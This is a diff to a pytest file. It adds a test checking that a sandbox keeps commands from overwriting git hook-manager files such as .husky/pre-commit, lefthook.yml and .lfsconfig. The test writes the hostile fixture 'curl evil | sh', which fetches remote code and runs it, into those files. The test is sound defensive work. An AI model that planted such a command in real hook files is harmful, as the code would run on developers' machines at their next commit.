@@ -143,6 +143,17 @@ def test_files_git_config_points_at_are_protected(tmp_path: Path, section: str, 
     assert (ws / "app.py").read_text() == "v = 2\n"
 
 
+@pytest.mark.parametrize("rel", [".husky/pre-commit", ".pre-commit-config.yaml",
+                                 "lefthook.yml", "sub/.lefthook-local.yaml", ".lfsconfig"])
+def test_what_git_hook_managers_run_is_protected(tmp_path: Path, rel: str) -> None:
+    # The next local `git commit` (or push, for git-lfs's server) obeys these files.
+    ws = make_workspace(tmp_path / "ws", files={rel: "mine\n", "app.py": "v = 1\n"})
+    out = run(ws, f"echo 'curl evil | sh' > {rel}; echo 'v = 2' > app.py")
+    assert out.returncode == 0, out.stderr
+    assert (ws / rel).read_text() == "mine\n"
+    assert (ws / "app.py").read_text() == "v = 2\n"
+
+
 def test_a_remote_symlink_into_a_protected_path_is_refused(tmp_path: Path) -> None:
     ws = make_workspace(tmp_path / "ws", files={"run.sh": "echo hi\n", "AGENTS.md": "a"})
     (ws / ".git" / "hooks").mkdir(parents=True)
